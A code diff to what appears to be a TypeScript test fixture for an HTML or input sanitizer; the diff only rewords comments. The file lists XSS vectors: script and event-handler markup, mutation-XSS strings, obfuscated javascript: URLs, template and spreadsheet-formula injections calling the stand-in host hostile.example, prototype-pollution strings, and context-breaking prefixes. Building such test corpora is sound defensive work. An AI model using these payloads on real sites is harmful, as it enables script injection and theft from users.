@@ -1,13 +1,13 @@
 /**
- * Texts by which a page tries to become more than text in whoever shows it. Each carries a number: what runs calls
- * `hostile(number)`, what loads asks `hostile.example` for it.
+ * Texts that try to become more than text. Each has a number: executed ones call `hostile(number)`, loaded ones request it
+ * from `hostile.example`.
  */
 type Payload = (number: number) => string
 
 const run = (at: number) => `hostile(${at})`
 const from = (at: number) => `//hostile.example/${at}`
 
-/** Markup that runs or loads where a parser meets it. */
+/** Markup that runs or loads when parsed. */
 const vectors: readonly Payload[] = [
   (at) => `<script>${run(at)}</script>`,
   (at) => `<script src="${from(at)}.js"></script>`,
@@ -31,7 +31,7 @@ const vectors: readonly Payload[] = [
   (at) => `<div style="background:url(${from(at)})">x</div>`,
   (at) => `<video><source onerror=${run(at)}></video><audio src=x onerror=${run(at)}>`,
   (at) => `<template shadowrootmode=open><script>${run(at)}</script></template>`,
-  // Texts that change their meaning between two parsings.
+  // Texts whose meaning changes between two parsings.
   (at) => `<noscript><p title="</noscript><img src=x onerror=${run(at)}>">`,
   (at) =>
     `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run(at)}&gt;">`,
@@ -52,7 +52,7 @@ const vectors: readonly Payload[] = [
   (at) => `<%= ${run(at)} %>[[${run(at)}]]#{${run(at)}}`,
   (at) => `=HYPERLINK("http:${from(at)}";"x")`,
   (at) => `[x](javascript:${run(at)}) ![x](http:${from(at)})`,
-  // Addresses.
+  // URLs.
   (at) => `javascript:${run(at)}//`,
   (at) => `JaVa\tScRiPt:${run(at)}`,
   (at) => `\u0001javascript:${run(at)}`,
@@ -67,7 +67,7 @@ const vectors: readonly Payload[] = [
   (at) => `constructor.prototype.hostile${at}`,
 ]
 
-/** What a text breaks out of before. */
+/** Prefixes that break out of a context. */
 const breakers: readonly string[] = [
   '',
   '">',
